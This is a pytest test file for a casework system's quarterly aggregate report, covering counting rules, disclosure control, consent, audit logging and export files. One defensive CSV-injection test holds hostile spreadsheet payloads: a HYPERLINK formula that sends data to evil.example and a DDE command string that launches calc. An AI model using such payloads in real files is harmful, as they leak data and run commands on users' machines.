"""The quarterly aggregate report: population, counting rules, disclosure control, files."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Mapping
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import insert, select, update

from casework.model import AuditEvent, Case, ConsentRecord, StatusChange
from casework.model.base import new_id
from casework.model.vocab import CaseStatus, ConsentKind, Gender
from casework.reporting import profiles, quarterly, release_files
from casework.reporting.disclosure import TOTAL, Table, dominated, round_count, suppress
from casework.reporting.release_files import ExportRefused
from casework.vault.engine import raw_connection
from casework.vault.opened import OpenVault
from casework.vault.vault import VaultFolder
from tests.factories import actor_of, unlock
from tests.unit.reporting_data import add_person

Q3 = quarterly.Period.parse("2026-Q3")
TODAY = date(2026, 11, 23)


def release(vault: OpenVault) -> quarterly.Release:
    with vault.session() as session:  # a release only reads
        profile = profiles.get_profile(session, actor_of(vault), "National")
        return quarterly.build_release(session, actor_of(vault), profile, Q3, TODAY)


def true_counts(result: quarterly.Release, table_id: str) -> Table:
    return next(t for t in result.tables if t.table_id == table_id)


def test_population_and_counting_rules(officer: OpenVault, staffed_vault: OpenVault) -> None:
    twice = add_person(
        officer, intakes=[date(2026, 7, 2), date(2026, 8, 9)], types=["SexualExploitation"]
    )
    add_person(officer, intakes=[date(2026, 10, 1)], types=["ForcedLabour"])  # the day after Q3
    add_person(officer, intakes=[date(2026, 5, 1)], types=["SexualExploitation", "ForcedLabour"])
    add_person(officer, intakes=[date(2026, 1, 5)], types=["Servitude"], closed=date(2026, 6, 30))
    add_person(officer, intakes=[date(2026, 7, 5)], types=[], consent=False)
    result = release(officer)
    t1 = true_counts(result, "T1")
    assert t1.get("Active", "Sex only") == 1  # two cases in the quarter, one person
    assert t1.get("Active", "Both") == 1  # sex and labour together count as Both
    assert t1.get("Active", "Labour only") == 0  # opened after the quarter; closed before it
    assert t1.get("Active", TOTAL) == 2 and t1.get("New", TOTAL) == 1
    assert twice and result.excluded_for_consent in (0, 5)  # one person left out, rounded to base 5


def test_small_counts_are_suppressed_and_no_line_betrays_one(officer: OpenVault) -> None:
    for _ in range(12):
        add_person(officer, intakes=[date(2026, 7, 10)], types=["SexualExploitation"])
    for _ in range(3):
        add_person(
            officer, intakes=[date(2026, 7, 10)], types=["ForcedLabour"], gender=Gender.MASCULINE
        )
    result = release(officer)
    for table in result.tables:
        if table.table_id == "T5-nights":
            continue
        for (row, col), value in table.values.items():
            if 0 < value < 10:
                assert (row, col) in table.suppressed, (table.table_id, row, col)
        for line in table.lines():
            assert sum(1 for cell in line if cell in table.suppressed) != 1, table.table_id
    rows = list(csv.DictReader(io.StringIO(result.csv_bytes.decode())))
    labour = [
        r
        for r in rows
        if r["table_id"] == "T1" and r["row_key"] == "Active" and r["col_key"] == "Labour only"
    ]
    assert labour[0]["value"] == "x" and labour[0]["flag"] == "x"
    assert all(r["value"] == "x" or int(r["value"]) % 5 == 0 for r in rows if r["table_id"] != "T5")


def test_files_are_byte_identical_on_re_export_and_carry_no_names(
    officer: OpenVault, tmp_path: Path
) -> None:
    for _ in range(11):
        add_person(officer, intakes=[date(2026, 7, 10)], types=["SexualExploitation"])
    with officer.transaction() as session:
        profile = profiles.get_profile(session, actor_of(officer), "National")
        first = quarterly.export_quarterly(
            session, actor_of(officer), profile, Q3, tmp_path / "a", TODAY
        )
        second = quarterly.export_quarterly(
            session, actor_of(officer), profile, Q3, tmp_path / "b", TODAY
        )
        with pytest.raises(ExportRefused, match="not empty"):
            quarterly.export_quarterly(
                session, actor_of(officer), profile, Q3, tmp_path / "a", TODAY
            )
        with pytest.raises(ExportRefused, match="not started"):
            quarterly.export_quarterly(
                session,
                actor_of(officer),
                profile,
                quarterly.Period.parse("2027-Q1"),
                tmp_path / "c",
                TODAY,
            )
        with pytest.raises(ExportRefused, match="No case"):
            quarterly.export_quarterly(
                session,
                actor_of(officer),
                profile,
                quarterly.Period.parse("2020-Q1"),
                tmp_path / "d",
                TODAY,
            )
    assert (tmp_path / "a" / "summary.csv").read_bytes() == (
        tmp_path / "b" / "summary.csv"
    ).read_bytes()
    assert first.manifest == second.manifest
    manifest = json.loads((tmp_path / "a" / "manifest.json").read_text())
    assert manifest["period"] == "2026-Q3" and manifest["threshold"] == 10
    assert {p.name for p in (tmp_path / "a").iterdir()} == {
        "summary.csv",
        "manifest.json",
        "summary.pdf",
    }
    for path in (tmp_path / "a").iterdir():
        assert b"Canary" not in path.read_bytes() and b"Quillfeather" not in path.read_bytes()
    from pypdf import PdfReader

    pdf = PdfReader(tmp_path / "a" / "summary.pdf")
    text = " ".join(page.extract_text() for page in pdf.pages)
    assert "Quarterly summary 2026-Q3" in text and "T2 · People by age band and gender" in text
    metadata: Mapping[str, object] = pdf.metadata or {}
    assert "Canary" not in text and not metadata.get("/Author")
    assert not (tmp_path / "c").exists() and not (tmp_path / "d").exists()
    with officer.session() as session:
        rows = (
            session.execute(select(AuditEvent).where(AuditEvent.action == "export.quarterly"))
            .scalars()
            .all()
        )
    assert len(rows) == 2  # the two that wrote files; refusals leave no row
    with officer.session() as session:
        past = release_files.past_exports(session, actor_of(officer))
    assert [(p.kind, p.profile, p.period) for p in past] == [
        ("quarterly", "National", "2026-Q3")
    ] * 2
    assert {name for name, _digest in past[0].files} == {
        "summary.csv",
        "manifest.json",
        "summary.pdf",
    }
    detail = json.loads(rows[0].detail)
    assert rows[0].entity_id == profile.profile_id and detail["period"] == "2026-Q3"
    for name in ("summary.csv", "manifest.json", "summary.pdf"):
        digest = hashlib.sha256((tmp_path / "a" / name).read_bytes()).hexdigest()
        assert detail["sha256"][name] == digest


def test_caseworkers_cannot_export(staffed_vault: OpenVault, vault_folder: VaultFolder) -> None:
    from casework.errors import PermissionDenied
    from tests.conftest import WORKER_PASSWORD

    amina = unlock(vault_folder, "amina", WORKER_PASSWORD)
    profile = profiles.Profile("p", "National", "", "X", 10, 5, False, 11, 2, 5)
    with pytest.raises(PermissionDenied), amina.transaction() as session:
        quarterly.build_release(session, actor_of(amina), profile, Q3, TODAY)
    with pytest.raises(PermissionDenied), amina.session() as session:
        release_files.past_exports(session, actor_of(amina))  # nor read what was exported
    amina.lock()


def test_disclosure_primitives() -> None:
    table = Table("T", ["a", "b", "Total"], ["c", "d", "Total"])
    table.values.update(
        {
            ("a", "c"): 3,
            ("a", "d"): 20,
            ("a", "Total"): 23,
            ("b", "c"): 15,
            ("b", "d"): 30,
            ("b", "Total"): 45,
            ("Total", "c"): 18,
            ("Total", "d"): 50,
            ("Total", "Total"): 68,
        }
    )
    suppress(table, 10)
    assert ("a", "c") in table.suppressed
    assert {("a", "d"), ("b", "c")} <= table.suppressed  # its row and column partners
    assert dominated([1, 1, 30] + [1] * 10, 10) and dominated([5, 5], 10)
    assert not dominated([3] * 12, 10)
    values = {round_count(v, 5, b"secret", "2026-Q3|aggregate") for v in range(1, 50)}
    assert all(v % 5 == 0 for v in values)
    assert round_count(13, 5, b"s", "c") == round_count(13, 5, b"s", "c")  # deterministic
    assert round_count(13, 1, b"s", "c") == 13 and round_count(15, 5, b"s", "c") == 15


def test_reopened_counts_reopenings_on_the_quarters_days_in_utc(officer: OpenVault) -> None:
    def reopened_at(instant: datetime, types: list[str]) -> None:
        survivor_id = add_person(officer, intakes=[date(2026, 5, 1)], types=types)
        with officer.transaction() as session:
            case_id = session.execute(
                select(Case.id).where(Case.survivor_id == survivor_id)
            ).scalar_one()
            stamp = {"id": new_id(), "created_at": instant, "updated_at": instant}
            session.execute(
                insert(StatusChange),
                [
                    {
                        **stamp,
                        "case_id": case_id,
                        "from_status": CaseStatus.CLOSED,
                        "to_status": CaseStatus.ACTIVE,
                    }
                ],
            )

    reopened_at(datetime(2026, 7, 1, 0, 0, tzinfo=UTC), ["SexualExploitation"])  # first instant
    reopened_at(datetime(2026, 9, 30, 23, 59, 59, tzinfo=UTC), ["SexualExploitation"])
    reopened_at(datetime(2026, 6, 30, 23, 59, 59, tzinfo=UTC), ["ForcedLabour"])  # before
    reopened_at(datetime(2026, 10, 1, 0, 0, tzinfo=UTC), ["ForcedLabour"])  # after
    t1 = true_counts(release(officer), "T1")
    assert t1.get("Reopened", "Sex only") == 2
    assert t1.get("Reopened", "Labour only") == 0 and t1.get("Active", "Labour only") == 2


def test_only_consent_valid_on_the_day_of_the_export_counts(officer: OpenVault) -> None:
    """Given by today, not withdrawn by it, not expired before it (consent.valid_on)."""
    day = timedelta(days=1)
    cases = {
        "given today": ({"given_on": TODAY}, True),
        "given tomorrow": ({"given_on": TODAY + day}, False),
        "withdrawn today": ({"withdrawn_on": TODAY}, False),
        "withdrawn tomorrow": ({"withdrawn_on": TODAY + day}, True),
        "expires today": ({"expires_on": TODAY}, True),
        "expired yesterday": ({"expires_on": TODAY - day}, False),
    }
    people = {}
    for name, (change, _counts) in cases.items():
        survivor_id = add_person(officer, intakes=[date(2026, 7, 2)], types=["ForcedLabour"])
        with officer.transaction() as session:
            session.execute(
                update(ConsentRecord).where(ConsentRecord.survivor_id == survivor_id), change
            )
        people[name] = survivor_id
    with officer.session() as session:
        valid = quarterly.consented_to(
            session, set(people.values()), TODAY, ConsentKind.AGGREGATE_REPORTING
        )
    assert {name for name, survivor_id in people.items() if survivor_id in valid} == {
        name for name, (_change, counts) in cases.items() if counts
    }


def test_the_same_tables_when_a_long_write_keeps_the_reads_in_one_thread(
    officer: OpenVault,
) -> None:
    """The services are read beside the people on a second connection in the same state;
    while another write holds the lock no pair can be made, and one thread reads it all."""
    for day in (date(2026, 7, 2), date(2026, 8, 9), date(2026, 9, 1)):
        add_person(officer, intakes=[day], types=["SexualExploitation"])
    paired = release(officer)
    writer = raw_connection(officer.folder.database, officer.secrets.database_key)
    try:
        writer.execute("BEGIN IMMEDIATE")
        alone = release(officer)
    finally:
        writer.execute("ROLLBACK")
        writer.close()
    assert alone.csv_bytes == paired.csv_bytes
    assert [t.values for t in alone.tables] == [t.values for t in paired.tables]


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_summary_csv_cells_cannot_run_as_formulas(
    officer: OpenVault, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No text from the vault reaches summary.csv today (its keys are the app's own codes), so a
    table with hostile keys stands in for one that some day might."""
    for _ in range(11):
        add_person(officer, intakes=[date(2026, 7, 10)], types=["SexualExploitation"])
    real_t7 = quarterly._t7

    def hostile_t7(cases: list[quarterly.CaseFacts], period: quarterly.Period) -> Table:
        table = real_t7(cases, period)
        for key in (HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tX", "\r=1", "a\r=2"):
            table.rows.append(key)
        return table

    monkeypatch.setattr(quarterly, "_t7", hostile_t7)
    result = release(officer)
    lines = list(csv.reader(io.StringIO(result.csv_bytes.decode(), newline="")))
    row_keys = [line[4] for line in lines[1:] if line[3] == "T7"]
    assert "'" + HOSTILE in row_keys and "'\tX" in row_keys
    # a carriage return would end the row for a spreadsheet: it is written as a quoted line feed
    assert "'\n=1" in row_keys and "a\n=2" in row_keys
    assert b"\r" not in result.csv_bytes
    assert not any(key.startswith(tuple("=+-@\t\r")) for key in row_keys)
    values = [line[6] for line in lines[1:]]
    assert values and all(v == "x" or v.isdigit() for v in values)  # counts untouched
    assert release(officer).csv_bytes == result.csv_bytes  # still byte-identical on re-export


def test_a_huge_profile_name_still_prints_the_summary(officer: OpenVault, tmp_path: Path) -> None:
    from pypdf import PdfReader

    from casework.model import ReportingProfile

    huge = ("Nyokabi" * 15_000)[:100_000]  # unbroken, as an old vault could hold
    for _ in range(11):
        add_person(officer, intakes=[date(2026, 7, 10)], types=["SexualExploitation"])
    with officer.transaction() as session:
        session.execute(update(ReportingProfile).values(name=huge))
    with officer.transaction() as session:
        (profile,) = profiles.list_profiles(session, actor_of(officer))
        quarterly.export_quarterly(session, actor_of(officer), profile, Q3, tmp_path / "out", TODAY)
    pdf = PdfReader(tmp_path / "out" / "summary.pdf")
    text = " ".join(" ".join(page.extract_text() for page in pdf.pages).split())
    assert "Prepared for: Nyokabi" in text and "not printed" in text
    assert "T2 · People by age band and gender" in text and len(pdf.pages) < 10
